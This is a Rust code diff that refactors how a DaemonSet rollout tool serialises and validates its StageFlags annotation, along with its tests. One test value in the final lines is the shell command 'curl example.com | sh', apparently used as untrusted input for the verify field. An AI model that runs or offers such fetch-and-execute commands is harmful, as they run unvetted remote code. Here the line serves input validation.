@@ -3,6 +3,7 @@
 use jiff::Timestamp;
 use serde::{Deserialize, Serialize};
 use serde_json::{Value, json};
+use serde_with::skip_serializing_none;
 
 use super::daemon_set::{DaemonSet, Flavor, RollingUpdate, UpdateStrategy};
 use super::int_or_percent::IntOrPercent;
@@ -144,6 +145,7 @@ impl Hold {
 ///
 /// Anybody who may edit the DaemonSet may have written them. They are only shown, as a command to run, so the command
 /// of `--verify` is not kept, only whether there was one.
+#[skip_serializing_none]
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase", deny_unknown_fields)]
 pub struct StageFlags {
@@ -157,22 +159,17 @@ pub struct StageFlags {
     #[serde(default, skip_serializing_if = "String::is_empty")]
     pub node_selector: String,
     /// The label by whose values nodes are spread.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub spread_by: Option<String>,
     /// The number of nodes that may become unavailable during the run.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub max_unavailable: Option<IntOrPercent>,
     /// Whether it was started by `undo`, before which pods may have restarted.
     #[serde(default, skip_serializing_if = "is_false")]
     pub is_undo: bool,
     /// The hash of the revision whose template it was to replace; `None` if it rolls out the existing one.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub replaced_revision: Option<String>,
     /// The template generation that it rolls out, which the API server increments with each change of the template.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub template_generation: Option<i64>,
     /// The restart time in the template that it rolls out; `None` if it was not started by `restart`.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub restarted_at: Option<String>,
     /// The number of times that a new pod may restart.
     #[serde(default)]
@@ -192,7 +189,6 @@ pub struct StageFlags {
     #[serde(default, skip_serializing_if = "is_false")]
     pub evict: bool,
     /// The stages of the rollout, if it has several.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
     pub staged: Option<StagedFlags>,
 }
 
@@ -238,16 +234,11 @@ impl StageFlags {
         if text.len() > MAX_GATES_LENGTH {
             return None;
         }
-        let Versioned { version, mut flags } = serde_json::from_str::<Versioned<Value>>(text).ok()?;
-        if version != GATES_VERSION {
-            return None;
-        }
-        // Clients before 0.1.0 recorded whether images were pulled first, which does not affect a stage that has started.
-        flags.as_object_mut()?.remove("prepull");
-        let flags = StageFlags::deserialize(flags).ok()?;
+        let Versioned { version, flags } = serde_json::from_str::<Versioned<StageFlags>>(text).ok()?;
         let is_node =
             |name: &String| !name.is_empty() && !name.contains(['/', '_']) && is_label_key(&format!("{name}/n"));
-        let is_usable = flags.nodes.iter().all(is_node)
+        let is_usable = version == GATES_VERSION
+            && flags.nodes.iter().all(is_node)
             && flags.node_selector.parse::<LabelSelector>().is_ok()
             && flags.spread_by.as_deref().is_none_or(is_label_key)
             && flags.max_unavailable.is_none_or(|amount| amount.value() >= 0)
@@ -335,7 +326,6 @@ mod tests {
             StageFlags::read(&annotation.to_string())
         };
         assert!(with(&|_| {}).is_some());
-        assert_eq!(with(&|annotation| annotation["flags"]["prepull"] = true.into()), Some(flags()));
         assert_eq!(with(&|annotation| annotation["version"] = 2.into()), None);
         for (field, value) in [
             ("verify", json!("curl example.com | sh")),
